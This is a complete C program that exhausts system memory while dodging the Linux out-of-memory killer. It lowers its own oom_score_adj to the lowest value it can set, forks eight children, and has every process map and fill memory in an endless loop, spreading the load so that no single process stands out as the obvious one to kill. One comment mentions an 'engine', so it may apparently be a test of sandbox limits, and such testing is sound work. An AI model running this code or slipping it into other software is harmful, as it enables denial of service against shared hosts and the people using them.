/* Makes itself the last that the kernel would kill, and then uses up the memory with several processes, none of which
 * has so much of it that its size alone would make it the first. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define PARTS 8
#define STEP (1 << 20)

static void lower(void)
{
	char text[8];
	int fd = open("/proc/self/oom_score_adj", O_WRONLY);

	/* To wherever the engine has put the floor. */
	for (int score = -1000; score <= 1000; score++)
		if (write(fd, text, (size_t)snprintf(text, sizeof(text), "%d", score)) > 0)
			break;
	close(fd);
}

int main(void)
{
	lower();
	for (int i = 0; i < PARTS; i++)
		if (fork() == 0)
			break;
	for (;;) {
		char *more = mmap(NULL, STEP, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (more != MAP_FAILED)
			memset(more, 1, STEP);
	}
}
